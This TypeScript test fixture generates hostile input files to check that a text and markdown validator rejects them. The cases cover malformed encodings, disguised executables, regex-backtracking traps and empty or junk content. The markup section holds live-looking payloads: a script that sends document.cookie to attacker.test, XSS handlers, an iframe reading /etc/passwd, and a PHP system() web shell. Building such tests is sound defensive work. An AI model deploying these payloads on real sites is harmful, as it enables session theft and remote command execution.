import { concat, type HostileCase, latin1, PROSE } from './case.ts'

const MILLION = 1_000_000

export function hostileTexts(): HostileCase[] {
  return [...encodings(), ...disguises(), ...regexTraps(), ...markup(), ...emptiness()]
}

function reject(name: string, content: string | Uint8Array): HostileCase {
  const bytes = typeof content === 'string' ? Buffer.from(content) : content
  return { name, format: name.endsWith('.md') ? 'md' : 'txt', bytes, expect: 'reject' }
}

function either(name: string, content: string | Uint8Array): HostileCase {
  return { ...reject(name, content), expect: 'either' }
}

function encodings(): HostileCase[] {
  return [
    reject('invalid-utf8.txt', concat(PROSE, Buffer.alloc(500, 0xfe), PROSE)),
    reject('overlong-utf8.txt', concat(PROSE, Buffer.alloc(400, Buffer.from([0xc0, 0xaf])))),
    reject('cut-sequences.txt', concat(PROSE, Buffer.alloc(300, Buffer.from([0xe2, 0x82])))),
    reject('utf16-odd-length.txt', Buffer.from([0xff, 0xfe, 0x41])),
    reject(
      'utf16-lone-surrogates.txt',
      concat(Buffer.from([0xff, 0xfe]), Buffer.alloc(2_000, Buffer.from([0x00, 0xd8]))),
    ),
    reject(
      'utf32.txt',
      concat(Buffer.from([0xff, 0xfe, 0, 0]), Buffer.from([...PROSE].flatMap((c) => [c.charCodeAt(0), 0, 0, 0]))),
    ),
    reject('nul-bytes.txt', PROSE.replaceAll(' ', '\0')),
    reject('control-characters.txt', `${PROSE}${'\x07\x08\x0e'.repeat(100)}`),
    reject('terminal-escapes.txt', `${PROSE}${'\x1b]0;owned\x07\x1b[2J'.repeat(50)}`),
    reject('direction-overrides.txt', `${'\u202Eevil\u202C '.repeat(80)}${PROSE}`),
    reject('replacement-characters.md', `${PROSE}${'�'.repeat(300)}`),
    reject('noncharacters.txt', `${PROSE}${'￾￿'.repeat(60)}`),
    either('stacked-accents.txt', `${PROSE}e${'\u0301'.repeat(MILLION)}`),
    either('homoglyphs.txt', PROSE.replaceAll('a', 'а').replaceAll('e', 'е').repeat(3)),
    either('utf16-good.txt', concat(Buffer.from([0xff, 0xfe]), Buffer.from(PROSE, 'utf16le'))),
  ]
}

function disguises(): HostileCase[] {
  return [
    reject('executable.txt', concat('MZ', Buffer.alloc(64), 'PE\0\0', Buffer.alloc(500, 0x90))),
    reject('elf.md', concat('\x7fELF', Buffer.alloc(600))),
    reject('gzip.txt', Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3])),
    reject('picture.md', concat(Buffer.from([0x89]), 'PNG\r\n\x1a\n', Buffer.alloc(100))),
    reject('pdf.txt', latin1('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n')),
    reject('zip.txt', concat('PK\x03\x04', Buffer.alloc(100))),
    reject('sqlite.txt', concat('SQLite format 3\0', Buffer.alloc(200))),
  ]
}

/** Long runs that make a backtracking pattern crawl. */
function regexTraps(): HostileCase[] {
  return [
    reject('nine-megabytes-of-a.txt', 'a'.repeat(9 * MILLION)),
    reject('a-dots.txt', `${'a.'.repeat(400_000)}@`),
    reject('at-signs.txt', '@'.repeat(MILLION)),
    reject('a-at.txt', 'a@'.repeat(MILLION / 2)),
    reject('mail-without-end.txt', `a@${'a.'.repeat(MILLION / 2)}`),
    reject('digits.txt', '1'.repeat(MILLION)),
    either('digit-dashes.txt', '4-'.repeat(MILLION)),
    either('digit-spaces.txt', '4 '.repeat(MILLION)),
    reject('dotted-numbers.txt', '1.'.repeat(MILLION)),
    reject('plus-signs.txt', '+1('.repeat(300_000)),
    reject('angle-brackets.md', '<'.repeat(MILLION)),
    reject('half-scripts.md', '<script'.repeat(150_000)),
    reject('backticks.md', '`'.repeat(MILLION)),
    either('open-fences.md', '```\n'.repeat(200_000)),
    either('handlers-without-value.md', ' onerror '.repeat(120_000)),
    reject('begin-keys.txt', '-----BEGIN '.repeat(100_000)),
    either('secret-key-words.txt', 'secret key '.repeat(100_000)),
    either('token-starts.txt', 'eyJ'.repeat(300_000)),
    reject('deep-quotes.md', `${'> '.repeat(100_000)}text`),
    reject('deep-lists.md', Array.from({ length: 2_000 }, (_, depth) => `${' '.repeat(depth)}- x`).join('\n')),
    reject('deep-brackets.md', `${'['.repeat(MILLION)}x${']'.repeat(MILLION)}`),
  ]
}

function markup(): HostileCase[] {
  const page = (extra: string) => `# Weather\n\n${PROSE}\n${extra}\n\n${PROSE}`
  return [
    reject('script.md', page('<script>fetch("http://attacker.test/" + document.cookie)</script>')),
    reject('script-split-case.md', page('<ScRiPt src=//attacker.test/x.js></sCrIpT>')),
    reject('javascript-link.md', page('[click](javascript:alert(1))')),
    reject('image-onerror.md', page('<img src=x onerror="alert(1)">')),
    reject('svg-onload.md', page('<svg onload=alert(1)>')),
    reject('iframe.md', page('<iframe src="file:///etc/passwd"></iframe>')),
    reject('php.md', page('<?php system($_GET["c"]); ?>')),
    { ...either('script-in-code-block.md', page('```html\n<script>alert(1)</script>\n```')), expect: 'accept' },
    reject(
      'private-key.txt',
      `${PROSE}-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAK\n-----END RSA PRIVATE KEY-----\n`,
    ),
  ]
}

function emptiness(): HostileCase[] {
  return [
    reject('no-bytes.txt', ''),
    reject('mark-only.txt', Buffer.from([0xef, 0xbb, 0xbf])),
    reject('zero-width.txt', '\u200B\u200D\u2060'.repeat(5_000)),
    reject('newlines.txt', '\n'.repeat(MILLION)),
    reject('same-line.txt', PROSE.repeat(5_000)),
    reject('one-word.txt', 'word '.repeat(100_000)),
    reject('keyboard.txt', 'sdkfjh wqpxz bvnmtr zxcvbnm qwrtp lkjhgf dfghjk xcvbnm wrtpsd zzxxcc '.repeat(3)),
    reject('base64.txt', Buffer.alloc(30_000, PROSE).toString('base64')),
  ]
}
